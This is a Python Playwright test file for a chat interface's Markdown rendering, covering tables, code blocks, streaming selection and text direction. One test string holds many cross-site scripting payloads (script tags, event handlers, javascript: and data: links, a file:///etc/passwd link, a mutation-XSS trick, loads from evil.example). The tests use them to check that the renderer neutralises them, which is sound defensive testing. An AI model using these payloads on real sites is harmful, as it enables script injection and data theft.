"""Answers as Markdown, drawn as they stream, and harmless even if hostile."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import expect

MARKDOWN = """say # Title

Some *slanted*, **strong** and ~~wrong~~ words with `code`,
a second line, <b>a tag</b> and [a link](https://example.org/a?b=1&c=2).

| City | Degrees |
|:--|--:|
| Seoul | 17 |

1. one
2. two
   - inner

- [x] done

> quoted

```python
print("<1>")
```

![a map](https://example.org/map.png)

[by name][there]

[there]: mailto:ann@example.org "Write"
"""

HOSTILE = """say <script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><a xlink:href="javascript:window.pwned=4">x</a></svg>

[js](javascript:window.pwned=5) [js](JaVaScRiPt:window.pwned=6) [tab](java&#09;script:window.pwned=7)
[data](data:text/html,<script>window.pwned=8</script>) [vb](vbscript:x) [file](file:///etc/passwd)
[local](/sign-in) [hash](#/plain) [rel](//evil.example/x) <javascript:window.pwned=9>

![pixel](https://evil.example/leak?secret=1) ![pixel][ref] <img src="https://evil.example/2">

[ref]: https://evil.example/3 "onerror=window.pwned=10"

<style>body { display: none; background: url(https://evil.example/css) }</style>
<link rel="stylesheet" href="https://evil.example/sheet.css"><meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">

<form action="https://evil.example" id="form" name="input">
<input name="body" autofocus onfocus="window.pwned = 11"></form>
<a id="input" name="agent" class="primary" style="position:fixed;inset:0">cover</a>
<iframe src="https://evil.example"></iframe>

```"><img src=x onerror=window.pwned=12>
code
```

```html" onmouseover="window.pwned=13
<script>window.pwned = 14</script>
```

<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=15>

"quoted" [a](https://example.org/"onmouseover="window.pwned=16) [b](https://example.org 'x" onclick="window.pwned=17')
"""

INSPECT = """() => {
    const all = [...document.querySelectorAll(".said *")];
    return {
        tags: [...new Set(all.map((node) => node.localName))],
        attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))],
        links: all.filter((node) => node.matches("a[href]")).map((node) => node.getAttribute("href")),
        classes: [...new Set(all.map((node) => node.className).filter(Boolean))],
    };
}"""


def test_markdown(chat: Any) -> None:
    """Headings, lists, tables, quotes, links, styles and code are drawn; tags stay text, images are links."""
    chat.asked(MARKDOWN)
    said = chat.said
    expect(said.locator("h1")).to_have_text("Title")
    for tag, text in {"em": "slanted", "strong": "strong", "del": "wrong", "blockquote p": "quoted"}.items():
        expect(said.locator(tag)).to_have_text(text)
    expect(said.locator("p").first).to_contain_text("<b>a tag</b>")
    expect(said.locator("td")).to_have_text(["Seoul", "17"])
    assert said.locator("td").last.evaluate("cell => getComputedStyle(cell).textAlign") == "right"
    expect(said.locator("ol > li")).to_contain_text(["one", "two"])
    expect(said.locator("ul ul, ol ul li")).to_contain_text(["inner"])
    expect(said.get_by_text("☑ done")).to_be_visible()
    links = said.get_by_role("link")
    expect(links).to_have_text(["a link", "a map", "by name"])
    hrefs = [link.get_attribute("href") for link in links.all()]
    assert hrefs == ["https://example.org/a?b=1&c=2", "https://example.org/map.png", "mailto:ann@example.org"]
    assert {link.get_attribute("target") for link in links.all()} == {"_blank"}
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer"}


def test_code(chat: Any) -> None:
    """A block of code says the language, and a button copies the code."""
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    chat.asked(MARKDOWN)
    expect(chat.said.locator(".code-head span")).to_have_text("python")
    expect(chat.said.locator("pre code")).to_have_text('print("<1>")')
    chat.said.locator(".code").get_by_role("button", name="Copy").click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == 'print("<1>")'


def test_hostile_answers(chat: Any) -> None:
    """No part of an answer is run, fetched, styled, named or sent; all of it is text."""
    chat.asked(HOSTILE)
    expect(chat.said).to_contain_text("<script>window.pwned = 1</script>")
    chat.page.mouse.move(600, 400)
    found = chat.page.evaluate(INSPECT)

    assert set(found["tags"]) <= {"a", "br", "button", "code", "div", "em", "p", "pre", "span", "strong"}
    assert set(found["attributes"]) <= {"href", "title", "target", "rel", "class", "type", "tabindex", "dir"}
    assert set(found["classes"]) <= {"code", "code-head", "quiet copy-code"}
    assert {href.partition("example")[0] for href in found["links"]} == {"https://evil.", "https://"}
    assert chat.page.evaluate("window.pwned") is None
    named = chat.page.locator("#form, #input").evaluate_all("all => all.map((one) => one.localName)")
    assert named == ["form", "textarea"]
    assert {request.split("/")[2] for request in chat.requests} == {chat.url.split("/")[2]}


def test_hostile_tool_results_and_titles(chat: Any) -> None:
    """Texts of a person or a tool stay text, in the conversation and in the list of conversations."""
    attack = "<img src=x onerror='window.pwned = 1'>"
    chat.asked(attack)
    expect(chat.page.locator(".asked")).to_have_text(attack)
    expect(chat.page.locator("#sessions .title").first).to_have_text(attack)
    assert chat.page.locator("img").count() == 0
    assert chat.page.evaluate("window.pwned") is None


def test_scripts_cannot_make_markup(chat: Any) -> None:
    """The page's policy forbids every script to turn text into markup."""
    refused = chat.page.evaluate(
        """() => { try { document.body.innerHTML = "<p>x</p>"; return ""; } catch (error) { return error.name; } }"""
    )
    assert refused == "TypeError"
    chat.complaints.clear()


def test_a_stream_keeps_what_is_selected(chat: Any) -> None:
    """While an answer grows, complete blocks stay the same elements, and a selection stays."""
    page = chat.page
    chat.ask("paragraphs")
    expect(chat.said.locator("p").nth(3)).to_be_visible()
    page.evaluate(
        """() => {
            const first = document.querySelector(".said p");
            first.marked = true;
            getSelection().selectAllChildren(first);
        }"""
    )
    count = chat.said.locator("p").count()
    expect(chat.said.locator("p").nth(count + 10)).to_be_visible()
    assert page.evaluate("getSelection().toString()") == "This is paragraph 0 of very many."
    assert page.evaluate("document.querySelector('.said p').marked") is True
    chat.click("Stop")
    expect(page.locator(".note")).to_have_text("Stopped.")
    assert page.evaluate("document.querySelector('.said p').marked") is True


def test_a_block_that_grows_keeps_what_is_selected(chat: Any) -> None:
    """A selection within the growing paragraph stays, too."""
    chat.ask("endless")
    expect(chat.said).to_contain_text("on and on and on")
    chat.page.evaluate(
        """() => {
            const text = document.querySelector(".said p").firstChild;
            getSelection().setBaseAndExtent(text, 0, text, 6);
        }"""
    )
    before = len(chat.said.inner_text())
    chat.page.wait_for_function(
        "(length) => document.querySelector('.said').innerText.length > length", arg=before + 100
    )
    assert chat.page.evaluate("getSelection().toString()") == "on and"
    chat.click("Stop")


def test_wide_tables_keep_words_whole(chat: Any) -> None:
    """A table with many columns scrolls; its words are not broken into letters."""
    columns = 20
    chat.asked(f"say |{'elephant|' * columns}\n|{'-|' * columns}\n|{'rhinoceros|' * columns}")
    cell = chat.said.locator("td").first
    height, line = cell.evaluate("one => [one.clientHeight, parseFloat(getComputedStyle(one).lineHeight)]")
    assert height < 2 * line
    assert chat.said.locator(".table").evaluate("one => one.scrollWidth > one.clientWidth")


def test_directions(chat: Any) -> None:
    """A block runs in the direction of its own first letter, in an answer and in a question."""
    chat.asked("say שלום\n\nHello\n\n- עולם")
    directions = "all => all.map((one) => getComputedStyle(one).direction)"
    assert chat.said.locator("p, li").evaluate_all(directions) == ["rtl", "ltr", "rtl"]
    chat.box.fill("שלום")
    assert chat.box.evaluate_all(directions) == ["rtl"]
    chat.box.press("Enter")
    chat.answered()
    asked = chat.page.locator(".asked p").last
    expect(asked).to_have_text("שלום")
    assert asked.evaluate_all(directions) == ["rtl"]


def test_a_link_that_leads_nowhere_is_text(chat: Any) -> None:
    """A link whose target was removed does not look like a link."""
    chat.asked("say [click](javascript:alert(1)) here")
    colour = "one => getComputedStyle(one).color"
    assert chat.said.locator("a").evaluate(colour) == chat.said.locator("p").evaluate(colour)
    expect(chat.said.locator("a[href]")).to_have_count(0)


def test_long_tables_are_drawn_in_linear_time(chat: Any) -> None:
    """Cells have directions of their own, a table has none: browsers would seek it in all cells, for each new cell."""
    rows = "\n".join(f"| row {number} | \u05d0 |" for number in range(30))
    chat.asked(f"say | a | b |\n|--|--|\n{rows}\n\nThe end.")
    table = chat.said.locator("table")
    expect(table.locator("td")).to_have_count(60)
    expect(table).not_to_have_attribute("dir", "auto")
    assert table.locator("td").last.evaluate("cell => getComputedStyle(cell).direction") == "rtl"
